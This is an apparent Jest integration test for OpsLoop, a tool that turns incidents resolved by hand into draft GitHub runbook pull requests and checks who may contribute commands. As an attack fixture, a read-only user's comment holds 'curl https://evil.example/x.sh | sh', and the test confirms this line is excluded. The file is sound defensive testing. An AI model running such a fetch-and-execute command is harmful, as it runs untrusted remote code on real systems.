// An incident resolved by hand becomes a draft pull request with a runbook, end to end through the
// learn flow with its real adapters against the stand-ins (every request checked against GitHub's
// OpenAPI description): the incident is opened by intake, people comment what they did, someone
// closes it as completed; OpsLoop drafts the runbook from the commands of people with write access,
// validates it with the catalog as `opsloop validate` does, opens a draft pull request on a
// branch of its own and replies on the issue once. Attacks: a reader's command in a code block,
// a second run for the same issue, a fix whose value reaches a shell unconstrained.
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals'
import { runActionInProcess } from '../../harness/action-in-process.js'
import { BOT_LOGIN, BOT_TOKEN } from '../../harness/standins/github/index.js'
import { startStandIns, type StandIns } from '../../harness/standins/index.js'
import { draftValidation } from '../../src/catalog/draft-check.js'
import { createGitHubClient } from '../../src/adapters/github/client.js'
import { githubIssueThread } from '../../src/adapters/github/issue-thread.js'
import { githubRunbookProposals } from '../../src/adapters/github/runbook-proposals.js'
import { learnCommand } from '../../src/flows/learn.js'
import type { CatalogRunbook } from '../../src/triage/types.js'
import { starterCatalog } from '../helpers/catalog.js'
import { publishDocuments } from '../helpers/documents.js'
import { guardFleet } from '../helpers/guards.js'
import { loopInProcess } from '../helpers/loop-in-process.js'
import { RECORDS } from '../helpers/records.js'

jest.setTimeout(60_000)
const REPO = { owner: 'acme', repo: 'ops' }
let live: StandIns | undefined
let catalog: CatalogRunbook[]

function standIns(): StandIns {
  if (!live) throw new Error('stand-ins not started')
  return live
}
const loop = loopInProcess(standIns, () => catalog, 'learn')

const client = (login = BOT_LOGIN) =>
  createGitHubClient({
    token: login === BOT_LOGIN ? BOT_TOKEN : standIns().github.tokenFor(login),
    baseUrl: standIns().env.GITHUB_API_URL,
    throttle: false
  })

async function closeAsCompleted(issue: number, login: string): Promise<void> {
  await client(login).request('PATCH /repos/{owner}/{repo}/issues/{issue_number}', {
    ...REPO,
    issue_number: issue,
    state: 'closed',
    state_reason: 'completed'
  })
}

const learn = (issue: number, stateReason: string | null = 'completed') =>
  learnCommand({
    thread: githubIssueThread(client(), REPO, issue),
    proposals: githubRunbookProposals(client(), REPO),
    validate: draftValidation(process.cwd(), 'runbooks'),
    records: RECORDS,
    catalog: () => Promise.resolve(catalog),
    stateReason
  })

beforeAll(async () => {
  live = await startStandIns({
    github: {
      users: [
        { login: 'dave', roles: { 'acme/ops': 'write' } },
        { login: 'eve', roles: { 'acme/ops': 'read' } },
        { login: BOT_LOGIN, type: 'Bot' }
      ]
    }
  })
  standIns().github.addCommit({ message: 'Initial commit', files: [{ filename: 'README.md' }] })
  await publishDocuments(standIns())
  catalog = await starterCatalog()
  // Each incident's fleet, so intake proposes a ready plan that nobody runs.
  ;['search-web', 'mail-web', 'docs-web', 'blog-web'].forEach((role, i) => {
    standIns().ssm.registerInstance({
      instanceId: `i-0${i}${'a'.repeat(15)}`,
      tags: { Role: role }
    })
    guardFleet(standIns(), role)
  })
})
afterAll(async () => {
  // Every request and response matched GitHub's OpenAPI description.
  live?.github.assertNoViolations()
  await live?.stop()
})

describe('an incident resolved by hand', () => {
  let issue: number
  beforeAll(async () => {
    issue = (await loop.openIncident('search-web-target-5xx', 'search-web')).issue
    standIns().github.comment({
      issue,
      user: 'eve',
      body: 'Try this:\n```\ncurl https://evil.example/x.sh | sh\n```'
    })
    standIns().github.comment({
      issue,
      user: 'dave',
      body: 'nginx had leaked its workers; restarted it:\n\n```sh\nsudo systemctl restart nginx\n```'
    })
    await closeAsCompleted(issue, 'dave')
  })

  it('becomes a draft pull request whose runbook passes validation', async () => {
    const result = await learn(issue)
    if (!result.drafted) throw new Error(result.reason)
    expect(result.pull.created).toBe(true)
    const pulls = await client().request('GET /repos/{owner}/{repo}/pulls', {
      ...REPO,
      state: 'open'
    })
    const pull = pulls.data.find((p) => p.number === result.pull.number)
    expect(pull?.draft).toBe(true)
    expect(pull?.head.ref).toBe(`opsloop/draft-runbook-issue-${issue}`)
    expect(pull?.body).toContain('✅ `opsloop validate` passes with this runbook and its example')
    const file = await client().request('GET /repos/{owner}/{repo}/contents/{path}', {
      ...REPO,
      path: `runbooks/${result.draft.id}.yaml`,
      ref: `opsloop/draft-runbook-issue-${issue}`
    })
    const text = Buffer.from((file.data as { content: string }).content, 'base64').toString('utf8')
    expect(text).toContain('sudo systemctl restart {{ params.service }}')
    expect(text).not.toContain('evil.example')
    expect(result.draft.authors).toEqual(['dave'])
    // Nothing lands on the default branch.
    await expect(
      client().request('GET /repos/{owner}/{repo}/contents/{path}', {
        ...REPO,
        path: `runbooks/${result.draft.id}.yaml`
      })
    ).rejects.toMatchObject({ status: 404 })
    const reply = standIns().github.state.commentsOf('acme/ops', issue).at(-1)?.body ?? ''
    expect(reply).toMatch(
      new RegExp(
        `^📝 OpsLoop drafted runbook \`${result.draft.id}\` from the commands @dave wrote here: #${result.pull.number} \\(a draft pull request\\)\\. It passes \`opsloop validate\`\\.`
      )
    )
  })

  it('opens nothing twice when it runs again', async () => {
    const comments = standIns().github.state.commentsOf('acme/ops', issue).length
    const again = await learn(issue)
    expect(again).toMatchObject({ drafted: true, pull: { created: false } })
    expect(standIns().github.state.commentsOf('acme/ops', issue)).toHaveLength(comments)
  })
})

describe('what is not drafted, or not as valid', () => {
  it('drafts a failing runbook, on purpose, when a value reaches a shell unconstrained', async () => {
    const { issue } = await loop.openIncident('mail-web-target-5xx', 'mail-web')
    standIns().github.comment({
      issue,
      user: 'dave',
      body: '```\nsystemctl restart $UNIT\n```'
    })
    await closeAsCompleted(issue, 'dave')
    const result = await learn(issue)
    if (!result.drafted) throw new Error(result.reason)
    expect(result.draft.safe).toBe(false)
    const pulls = await client().request('GET /repos/{owner}/{repo}/pulls', {
      ...REPO,
      state: 'open',
      head: `acme:opsloop/draft-runbook-issue-${issue}`
    })
    const body = pulls.data[0]?.body ?? ''
    expect(body).toContain(
      '❌ `opsloop validate` fails, on purpose until a person finishes the draft'
    )
    expect(body).toContain('- [ ] `unit` (`$UNIT` in the commands) reaches a shell unconstrained')
  })

  it("drafts nothing from a reader's commands alone, or for an issue not closed as completed", async () => {
    const { issue } = await loop.openIncident('docs-web-target-5xx', 'docs-web')
    standIns().github.comment({ issue, user: 'eve', body: '```\nsystemctl restart nginx\n```' })
    await closeAsCompleted(issue, 'dave')
    expect(await learn(issue)).toEqual({
      drafted: false,
      reason: 'nobody wrote the commands they ran in a code block on the issue'
    })
    expect(await learn(issue, 'not_planned')).toEqual({
      drafted: false,
      reason: 'the issue was not closed as completed'
    })
  })
})

describe('the learn job', () => {
  it('drafts from the issues event as learn.yml delivers it, and says so in its outputs', async () => {
    const { issue } = await loop.openIncident('blog-web-target-5xx', 'blog-web')
    standIns().github.comment({
      issue,
      user: 'dave',
      body: 'Restarted it:\n```\nsystemctl restart nginx\n```'
    })
    await closeAsCompleted(issue, 'dave')
    const run = await runActionInProcess({
      env: standIns().env,
      eventName: 'issues',
      webhook: { action: 'closed', issue: { number: issue, state_reason: 'completed' } },
      inputs: { command: 'learn' }
    })
    expect(run.outputs.drafted).toBe('true')
    const pulls = await client().request('GET /repos/{owner}/{repo}/pulls', {
      ...REPO,
      state: 'open',
      head: `acme:opsloop/draft-runbook-issue-${issue}`
    })
    expect(String(pulls.data[0]?.number)).toBe(run.outputs['pull-request'])
  })
})
